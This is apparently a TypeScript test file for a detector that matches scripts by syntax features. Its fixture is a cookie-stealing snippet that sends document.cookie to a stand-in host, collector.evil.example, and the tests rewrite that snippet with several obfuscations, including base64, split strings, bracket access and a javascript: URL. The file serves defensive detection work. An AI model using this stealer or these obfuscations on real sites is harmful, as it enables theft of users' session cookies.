import { describe, expect, it } from "vitest";
import { resembles } from "./likeness.ts";
import { DISTINCTIVE_WEIGHT, MAX_FEATURES, syntaxFeatures } from "./syntax-features.ts";

const THIEF = `const server = "https://collector.evil.example/take?c=";
fetch(server + document.cookie, { method: "POST", mode: "no-cors" });
localStorage.setItem("last-visit", Date.now());`;

const same = (one: string, other: string) => expect(syntaxFeatures(other)).toEqual(syntaxFeatures(one));

describe("features", () => {
	it.each([
		["names", THIEF.replaceAll("server", "x")],
		["comments and white space", `/* nothing */ ${THIEF.replaceAll("\n", "\n\n// here\n\t")}`],
		["functions around it", `(function () { try { (() => { ${THIEF} })(); } finally {} })();`],
		["order", THIEF.split("\n").toReversed().join("\n").replace("const server", "var server")],
		// biome-ignore lint/suspicious/noTemplateCurlyInString: a template in the rewritten code
		["split texts", THIEF.replace("evil.example", 'ev" + `il.${"exa"}` + ["m", "ple"].join("") + "')],
		[
			"texts in reverse and in base64",
			THIEF.replace('"last-visit"', 'atob("bGFzdC12aXNpdA==")').replace('"POST"', '[..."TSOP"].reverse().join("")'),
		],
		[
			"brackets and window",
			THIEF.replace("document.cookie", 'window["doc" + "ument"]["cookie"]').replace("fetch(", "self.fetch("),
		],
		[
			"aliases",
			`const d = document, l = localStorage; ${THIEF.replace("document.", "d.").replace("localStorage.", "l.")}`,
		],
		["an optional call", THIEF.replace("fetch(", "window?.fetch?.(")],
		["a metadata block", `// ==UserScript==\n// @name x\n// ==/UserScript==\n${THIEF}`],
		["an address", `javascript:${encodeURIComponent(THIEF)}`],
	])("do not depend on %s", (_what, other) => same(THIEF, other));

	it("tell what is called, read and set with which texts", () => {
		const features = new Set(syntaxFeatures(THIEF));
		for (const other of [
			THIEF.replace("document.cookie", "document.title"),
			THIEF.replace("evil.example", "good.example"),
			THIEF.replace("fetch(", "alert("),
			THIEF.replace('"no-cors"', '"cors"'),
		]) {
			expect(syntaxFeatures(other)?.every((feature) => features.has(feature))).toBe(false);
		}
	});

	it("are sorted, weighted and limited", () => {
		const features = syntaxFeatures(THIEF) ?? [];
		expect(features).toEqual([...features].sort((one, other) => one - other));
		expect(new Set(features.map((feature) => feature & 3))).toEqual(new Set([1, DISTINCTIVE_WEIGHT]));
		const long = Array.from({ length: MAX_FEATURES }, (_, index) => `f${index}("text number ${index}");`).join("");
		expect(syntaxFeatures(long)).toHaveLength(MAX_FEATURES);
	});

	it("are none for a text that is no program, and end for a hostile one", () => {
		expect(syntaxFeatures("javascript:(()=>{ this is no JavaScript")).toBeNull();
		const doubling = Array.from(
			{ length: 500 },
			(_, index) => `var b${index + 1}=[...b${index},...b${index}],t${index + 1}=t${index}+t${index}+f();`,
		);
		expect(syntaxFeatures(`var b0=["a"],t0="xy"+f();${doubling.join("")}`)).not.toBeNull();
		expect(syntaxFeatures(`a${".b()".repeat(100_000)}`)).not.toBeNull();
		expect(syntaxFeatures("let a = b, b = a; a.c(b);")).not.toBeNull();
		expect(syntaxFeatures(`${"eval('".repeat(2)}x${"')".repeat(2)}`)).toBeNull();
	});
});

describe("likeness", () => {
	const features = (code: string) => syntaxFeatures(code) ?? [];

	it("finds code in longer code, and not in code that lacks a part of it", () => {
		const long = `${"document.body.append('Some other text', 12);".repeat(5)} ${THIEF} for (const link of document.links) link.target = "_blank";`;
		expect(resembles(features(THIEF), features(long))).toBe(true);
		expect(resembles(features(long), features(THIEF))).toBe(false);
		expect(resembles(features(THIEF), features(THIEF.replace("evil.example", "good.example")))).toBe(false);
	});

	it("says nothing about code that is too small", () => {
		expect(resembles(features("alert(1)"), features("alert(1)"))).toBe(false);
		expect(resembles([], [])).toBe(false);
		expect(resembles(features("document.title = 'x'"), features("document.title = 'x'; document.body.remove()"))).toBe(
			false,
		);
	});
});
